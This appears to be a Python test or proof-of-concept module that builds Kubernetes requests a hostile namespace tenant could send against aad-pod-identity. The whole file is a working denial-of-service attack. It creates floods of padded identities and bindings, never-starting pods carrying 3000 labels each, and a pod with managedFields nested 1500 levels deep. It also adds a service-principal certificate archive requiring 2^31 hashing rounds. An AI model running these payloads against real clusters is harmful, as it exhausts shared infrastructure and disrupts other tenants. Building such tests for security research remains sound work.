"""Objects that a hostile tenant creates with the rights to one namespace."""

import base64
import json
from collections.abc import Iterator
from typing import Any

import make

Json = dict[str, Any]
API = "aadpodidentity.k8s.io/v1"
SELECTOR = "hostile"
IDENTITIES, PODS, LABELS, LEVELS = 64, 60, 3000, 1500
CLIENT = "12345678-0000-4000-8000-000000000000"
"""Of the service principal whose archive wants 2^31 rounds of hashing."""
KINDS = {"AzureIdentity": "azureidentities", "AzureIdentityBinding": "azureidentitybindings"}


def requests(node: str, archive: bytes, namespace: str = SELECTOR) -> Iterator[tuple[str, bytes]]:
    """Yield the requests to the API server: path and body."""
    for obj in _objects(node, archive):
        body = json.dumps(obj).encode()
        yield _path(obj["kind"], namespace), body.replace(b'"NESTED"', b'{"f:a":' * LEVELS + b"{}" + b"}" * LEVELS)


def _objects(node: str, archive: bytes) -> Iterator[Json]:
    for number in range(IDENTITIES):
        name = f"crowd-{number}"
        tenants = [f"{'t' * 60}{one}" for one in range(8)]
        spec = {"type": 0, "resourceID": make.resource_id(name, "nobodys"), "clientID": f"client-of-{name}"}
        yield _custom("AzureIdentity", name, {**spec, "auxiliaryTenantIDs": tenants})
        yield _custom("AzureIdentityBinding", name, {"azureIdentity": name, "selector": SELECTOR})
    yield from _principal(archive)
    yield _nested(node)
    for number in range(PODS):
        yield waiting_pod(f"crowd-{number}", node, {f"label-{one}": "x" * 60 for one in range(LABELS)})


def _principal(archive: bytes) -> Iterator[Json]:
    data = {"certificate": archive, "password": b"open sesame"}
    yield {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "archive"},
        "data": {name: base64.b64encode(value).decode() for name, value in data.items()},
    }
    secret = {"name": "archive", "namespace": SELECTOR}
    spec = {"type": 2, "tenantID": "a-tenant", "clientID": CLIENT, "clientPassword": secret}
    yield _custom("AzureIdentity", "archive", spec)
    yield _custom("AzureIdentityBinding", "archive", {"azureIdentity": "archive", "selector": SELECTOR})


def _nested(node: str) -> Json:
    """Return a pod whose managed fields are nested deeper than most readers go."""
    pod = waiting_pod("nested", node, {})
    entry = {"manager": "hostile", "operation": "Update", "apiVersion": "v1", "time": "2026-01-01T00:00:00Z"}
    pod["metadata"]["managedFields"] = [{**entry, "fieldsType": "FieldsV1", "fieldsV1": "NESTED"}]
    return pod


def waiting_pod(name: str, node: str, labels: dict[str, str]) -> Json:
    """Return a pod that its kubelet never starts: it waits for a volume."""
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "labels": {**labels, "aadpodidbinding": SELECTOR}},
        "spec": {
            "nodeName": node,
            "automountServiceAccountToken": False,
            "terminationGracePeriodSeconds": 0,
            "containers": [
                {"name": "main", "image": "none", "volumeMounts": [{"name": "never", "mountPath": "/never"}]}
            ],
            "volumes": [{"name": "never", "configMap": {"name": "never"}}],
        },
    }


def _custom(kind: str, name: str, spec: Json) -> Json:
    return {"apiVersion": API, "kind": kind, "metadata": {"name": name}, "spec": spec}


def _path(kind: str, namespace: str) -> str:
    """Return where objects of a kind are created."""
    plural = KINDS.get(kind)
    return (
        f"/apis/{API}/namespaces/{namespace}/{plural}" if plural else f"/api/v1/namespaces/{namespace}/{kind.lower()}s"
    )
